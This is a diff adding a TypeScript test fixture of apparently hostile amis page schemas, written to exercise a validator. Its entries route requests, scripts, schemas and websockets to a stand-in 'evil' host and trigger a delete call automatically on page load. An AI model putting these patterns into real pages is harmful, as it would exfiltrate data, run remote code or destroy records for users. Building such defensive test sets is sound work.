@@ -1,0 +1,124 @@
+import { evil, hostile, hostileRoot, type HostilePage } from './hostile-page';
+
+/** Addresses that are none of the console's calls. */
+const addresses: readonly [string, unknown][] = [
+  ['another host', `https://${evil}/api`],
+  ['another host by this protocol', `//${evil}/api`],
+  ['another host by backslashes', `\\\\${evil}\\api`],
+  ['another host with a method', `post:https://${evil}/api`],
+  ['another host with another method', `get://${evil}/api`],
+  ['another host in an object', { url: `https://${evil}/api`, method: 'post' }],
+  ['a script', `js:https://${evil}/x.js`],
+  ['a raw script', `raw:js:/api/admin/feedback/list`],
+  ['a script in disguise', `/api/admin/feedback/list?contact=raw:js:x`],
+  ['a script of this host', 'jsonp:/api/admin/feedback/list'],
+  ['a script by its method', { url: '/api/admin/feedback/list', method: 'js' }],
+  ['what data decide', '${api}'],
+  ['what an old variable decides', '$api'],
+  ['a path out of the calls', '/api/admin/../console/page'],
+  ['no call of ours', '/api/admin/evil'],
+  ['a file', '/files/x.json'],
+  ['a list of addresses', [`https://${evil}/api`]],
+  ['an address in a list', { url: [`https://${evil}/api`] }],
+  ['a document', 'data:application/json,{}'],
+];
+
+/** Everywhere amis takes a call. */
+const places: readonly [string, (api: unknown) => object][] = [
+  ['initApi', (initApi) => ({ type: 'form', initApi, body: [] })],
+  ['api of a form', (api) => ({ type: 'form', api, body: [] })],
+  ['api of a list', (api) => ({ type: 'crud', api, columns: [] })],
+  ['api of a chart', (api) => ({ type: 'chart', api, config: {} })],
+  ['source', (source) => ({ type: 'select', name: 'a', source })],
+  ['autoComplete', (autoComplete) => ({ type: 'input-text', name: 'a', autoComplete })],
+  ['deferApi', (deferApi) => ({ type: 'input-tree', name: 'a', deferApi })],
+  ['receiver', (receiver) => ({ type: 'input-file', name: 'a', receiver })],
+  ['startChunkApi', (startChunkApi) => ({ type: 'input-file', name: 'a', startChunkApi })],
+  ['videoReceiver', (videoReceiver) => ({ type: 'input-rich-text', name: 'a', videoReceiver })],
+  [
+    'quickSaveItemApi',
+    (quickSaveItemApi) => ({ type: 'crud', api: '/api/admin/feedback/list', quickSaveItemApi, columns: [] }),
+  ],
+  [
+    'an action',
+    (api) => ({ type: 'button', label: 'a', onEvent: { click: { actions: [{ actionType: 'ajax', api }] } } }),
+  ],
+  [
+    'args of an action',
+    (api) => ({
+      type: 'button',
+      label: 'a',
+      onEvent: { click: { actions: [{ actionType: 'download', args: { api } }] } },
+    }),
+  ],
+  ['a button', (api) => ({ type: 'button', label: 'a', actionType: 'ajax', api })],
+  [
+    'a switch',
+    (saveImmediately) => ({ type: 'button', label: 'a', actionType: 'saveAs', api: saveImmediately }),
+  ],
+  ['our export', (api) => ({ type: 'excel-export', api, columns: [] })],
+];
+
+const schemas = [
+  { type: 'service', schemaApi: '/api/admin/feedback/list' },
+  { type: 'service', schemaApi: `https://${evil}/schema.json` },
+  { type: 'service', schemaApi: { url: '/api/admin/feedback/list' } },
+  { type: 'service', schemaApi: `js:https://${evil}/schema.js` },
+  { type: 'tabs', tabs: [{ title: 'a', body: { type: 'service', schemaApi: '/files/x.json' } }] },
+  { type: 'input-sub-form', name: 'a', schemaApi: '/files/x.json' },
+  {
+    type: 'button',
+    label: 'a',
+    actionType: 'dialog',
+    dialog: { body: { type: 'service', schemaApi: '/x' } },
+  },
+].map((element, at) => hostile(`a schema from a call, ${at + 1}`, 'outside/remote-schema', element));
+
+const refs = [
+  `https://${evil}/x.json`,
+  `//${evil}/x`,
+  '/files/x.json',
+  '#/definitions/x',
+  '../x',
+  'nowhere',
+  ['x'],
+].map(($ref, at) => hostile(`a $ref out of the page, ${at + 1}`, 'outside/foreign-ref', { $ref }));
+
+const remove = { url: '/api/admin/starWheel/remove', data: { id: 1 } };
+const on = (event: string, action: object) => ({
+  type: 'container',
+  body: 'x',
+  onEvent: { [event]: { actions: [action] } },
+});
+const byThemselves = [
+  on('init', { actionType: 'ajax', api: remove }),
+  on('inited', { actionType: 'ajax', args: { api: remove } }),
+  on('mount', { actionType: 'refresh' }),
+  on('fetchInited', { actionType: 'url', args: { url: `https://${evil}/` } }),
+  on('rendered', { actionType: 'link', args: { link: '/platform/starWheel/list' } }),
+  on('init', { actionType: 'goBack' }),
+  on('init', { actionType: 'parallel', children: [{ actionType: 'print' }] }),
+  { type: 'form', body: [], api: remove, submitOnInit: true },
+].map((element, at) => hostile(`what acts by itself, ${at + 1}`, 'behaviour/acts-on-load', element));
+
+export const requestPages: readonly HostilePage[] = [
+  ...addresses.map(([what, api]) =>
+    hostile(`asks ${what}`, 'contract/unknown-call', { type: 'service', api, body: 'x' }),
+  ),
+  ...places.map(([where, make]) =>
+    hostile(`asks another host in ${where}`, 'contract/unknown-call', make(`https://${evil}/api`)),
+  ),
+  ...schemas,
+  ...refs,
+  ...byThemselves,
+  hostile('a socket', 'contract/unknown-call', { type: 'service', ws: `wss://${evil}/`, body: 'x' }),
+  hostile('a removal that loads', 'contract/write-on-load', {
+    type: 'service',
+    api: '/api/admin/starWheel/remove',
+    body: 'x',
+  }),
+  hostileRoot('the page asks another host', 'contract/unknown-call', { initApi: `https://${evil}/` }),
+  hostileRoot('the aside asks another host', 'contract/unknown-call', {
+    aside: { type: 'service', api: `//${evil}/`, body: 'x' },
+  }),
+];
